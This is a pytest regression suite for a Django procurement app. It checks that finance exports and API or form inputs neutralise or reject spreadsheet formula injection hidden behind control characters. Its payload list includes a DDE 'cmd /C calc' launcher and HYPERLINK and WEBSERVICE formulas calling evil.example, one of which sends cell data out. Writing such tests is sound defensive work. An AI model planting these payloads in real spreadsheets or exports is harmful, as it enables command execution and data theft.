"""Security round 4, R1: a control character in front of `=` made a vendor's quote title a live
formula in the XLSX finance downloads. Now every export strips control characters before it
quotes a formula start, writes every text cell as text, and no form field or JSON string may
hold a control character at all (one rule, core.control_chars)."""

from __future__ import annotations

import io
from datetime import timedelta

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from rest_framework.test import APIClient

from catalog.models import Quote
from catalog.views.quote_csv import csv_cell
from finops.focus import export as focus_export
from procurement import exports
from tests.factories import AcceleratorFactory, QuoteFactory

pytestmark = pytest.mark.django_db

# The reproduction and the attacker's next moves: other C0 controls, DEL, a C1 control, spaces.
PAYLOADS = [
    '\x01=HYPERLINK("https://evil.example/pay","Contoso H200")',
    "\x0b=1+1",
    "\x1f+cmd|' /C calc'!A0",
    "\x00@SUM(A1:A2)",
    "\x7f-2+3",
    "\x9b=1+1",
    "  =1+1",
    '\x01\x02\x03=WEBSERVICE("https://evil.example/?"&A1)',
]
CELL_WRITERS = [exports.neutralise, csv_cell, focus_export._text]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("write", CELL_WRITERS)
def test_every_text_cell_writer_strips_then_quotes(write, payload):
    cell = write(payload)
    assert cell.startswith("'"), cell
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in cell)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_xlsx_cell_is_a_formula(payload):
    workbook = Workbook()
    workbook.remove(workbook.active)
    exports._sheet(workbook, "Quote versions", ["Title", "Price"], iter([[payload, 2.5]]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue()))["Quote versions"]
    title, price = sheet["A2"], sheet["B2"]
    assert title.data_type == "s"
    assert title.value.startswith("'")
    assert price.data_type == "n"  # numbers stay numbers


def _quote_body(accelerator, title):
    return {
        "accelerator": accelerator.slug,
        "capacity_model": "on_demand",
        "currency": "USD",
        "price_per_gpu_hour": "2.50",
        "gpus_per_node": 8,
        "region": "eu-west",
        "title": title,
        "quoted_at": (timezone.now() - timedelta(minutes=5)).isoformat(),
    }


@pytest.mark.parametrize("payload", PAYLOADS[:6])
def test_the_api_refuses_a_control_character_in_any_text_field(vendor_a, payload):
    h100 = AcceleratorFactory(slug="h100-sxm-80gb", name="H100 SXM 80GB", max_gpus_per_node=8)
    client = APIClient()
    client.force_authenticate(user=vendor_a)
    before = Quote.objects.count()
    response = client.post("/api/v1/quotes/", _quote_body(h100, payload), format="json")
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "control_character"
    assert "title" in body["fields"]
    assert Quote.objects.count() == before  # nothing half-written
    # The next move: the same character in another field, or deeper in the body.
    nested = {**_quote_body(h100, "fine"), "notes": f"see {payload}"}
    assert client.post("/api/v1/quotes/", nested, format="json").status_code == 400
    revise = QuoteFactory(accelerator=h100, provider=vendor_a.provider, entered_by=vendor_a)
    response = client.post(f"/api/v1/quotes/{revise.pk}/revise/", {"title": payload}, format="json")
    assert response.status_code == 400


def test_tab_and_line_breaks_are_still_text(vendor_a):
    h100 = AcceleratorFactory(slug="h100-sxm-80gb", name="H100 SXM 80GB", max_gpus_per_node=8)
    client = APIClient()
    client.force_authenticate(user=vendor_a)
    body = {**_quote_body(h100, "H100 on demand"), "notes": "line one\r\nline two\tand a tab"}
    assert client.post("/api/v1/quotes/", body, format="json").status_code == 201


def test_a_form_post_is_refused_too(login, lead):
    response = login(lead).post(
        "/catalog/quotes/new/", {"title": '\x01=HYPERLINK("x")', "currency": "USD"}
    )
    assert response.status_code == 400
    assert "title" in response.content.decode()
    assert "control character" in response.content.decode()


def test_a_multipart_form_is_refused_too(login, lead):
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = login(lead).post(
        "/catalog/quotes/new/",
        {
            "title": "\x0b=1+1",
            "file": SimpleUploadedFile("x.csv", b"a,b\n1,2\n", content_type="text/csv"),
        },
    )
    assert response.status_code == 400
    assert "control character" in response.content.decode()


@pytest.mark.parametrize("format_", ["multipart", None])
def test_a_form_encoded_api_body_is_refused_too(vendor_a, format_):
    """The next move: the same title sent to the API as a form instead of JSON."""
    h100 = AcceleratorFactory(slug="h100-sxm-80gb", name="H100 SXM 80GB", max_gpus_per_node=8)
    client = APIClient()
    client.force_authenticate(user=vendor_a)
    body = _quote_body(h100, '\x01=HYPERLINK("https://evil.example")')
    if format_ is None:
        from urllib.parse import urlencode

        response = client.post(
            "/api/v1/quotes/", urlencode(body), content_type="application/x-www-form-urlencoded"
        )
    else:
        response = client.post("/api/v1/quotes/", body, format=format_)
    assert response.status_code == 400
    assert "control character" in response.content.decode()
    assert not Quote.objects.exists()
